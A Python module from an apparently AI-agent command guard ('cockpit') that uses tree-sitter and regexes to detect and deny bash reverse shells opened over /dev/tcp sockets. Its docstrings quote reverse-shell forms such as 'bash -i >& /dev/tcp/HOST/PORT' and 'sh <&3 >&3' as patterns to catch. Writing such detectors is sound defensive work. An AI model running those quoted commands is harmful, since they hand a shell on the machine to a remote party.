"""Descriptors that a script has connected to the network with bash's own sockets, and shells put on them."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from tree_sitter import Node

from cockpit.core.guard.marks import is_known
from cockpit.core.guard.verdict import Hit, Verdict
from cockpit.core.lazy import lazy_pattern

if TYPE_CHECKING:
    from cockpit.core.guard.shell.run import Run

_REMOTE_SHELL = Hit("guard.remoteShell", Verdict.DENY, "hands a shell to the network")
_SHELL = r"(?:/\S*/)?(?:ba|z|k|da)?sh\b"
_ON_SOCKET = lazy_pattern(rf"(?:exec\s+)?{_SHELL}")
_INTERACTIVE = lazy_pattern(
    rf"(?:exec\s+)?{_SHELL}(?:\s+(?:-[a-z]+|--\w+))*(?:\s+[\"']?\$\{{?\w+\}}?[\"']?)?\s*\Z"
)
_COMPUTED = lazy_pattern(r"(?:eval\s+)?(?P<word>[\"']?\$(?:\{?\w+\}?|\(.*\))[\"']?)\s*\Z", re.DOTALL)
_DESCRIPTOR = lazy_pattern(r"(?:(\d+)|\{(\w+)\})?\s*([<>]+)&?\s*[\"']?\Z")
_DUPLICATE = lazy_pattern(r"(?P<operator>[<>])&\s*(?:(\d+)|\$\{?(\w+)\}?)-?\Z")
_ASIDE = lazy_pattern(r"\s*\d*(?:[<>]+&?|&>)\s*[^\s<>|;&]+")


def is_address(path: str) -> bool:
    """Whether bash connects where this path is opened; to do so is harmless, and usual to probe a port."""
    return path.startswith(("/dev/tcp/", "/dev/udp/"))


def handed_over(path: str, command: str) -> list[Hit]:
    """A shell that is started right on a socket: `bash -i >& /dev/tcp/HOST/PORT`."""
    return [_REMOTE_SHELL] if is_address(path) and _ON_SOCKET.match(command) else []


def follow(run: Run, redirect: Node) -> list[Hit]:
    """Keep up with what `exec 3<>/dev/tcp/HOST/PORT` opens, and judge what runs on it: `sh <&3 >&3`."""
    statement, destination = redirect.parent, redirect.child_by_field_name("destination")
    if statement is None:
        return []
    command = run.text(statement)
    text = run.text(redirect)
    if re.match(r"exec\s*[\d{<>]", command):
        _reopen(run, statement, redirect, destination)
        return []
    sockets = run.state.sockets
    duplicate = _DUPLICATE.search(text) if sockets else None
    if duplicate is None or (duplicate[2] or duplicate[3]) not in sockets:
        return []
    reads = duplicate["operator"] == "<"
    plain = _ASIDE.sub("", command)
    if reads and _ON_SOCKET.match(command):
        return [_REMOTE_SHELL]
    if not reads and (_INTERACTIVE.match(plain) or _is_computed(run, plain)):
        return [_REMOTE_SHELL]
    return []


def _reopen(run: Run, statement: Node, redirect: Node, destination: Node | None) -> None:
    """What a descriptor of the script is from here on."""
    end = destination.start_byte if destination is not None else redirect.end_byte
    before = run.source[statement.start_byte : end].decode("utf-8", "replace")
    found = _DESCRIPTOR.search(before.removesuffix("-"))
    if found is None:
        return
    number, name, operator = found.groups()
    descriptor = number or name or ("0" if operator.startswith("<") else "1")
    word = run.text(destination) if destination is not None else ""
    if is_address(run.expand_text(word)) or word.strip("${}") in run.state.sockets:
        run.state.sockets.add(descriptor)
    else:
        run.state.sockets.discard(descriptor)


def _is_computed(run: Run, command: str) -> bool:
    """Whether the whole command is a text that is only known when it runs."""
    found = _COMPUTED.match(command)
    return found is not None and not is_known(run.expand_text(found["word"]))
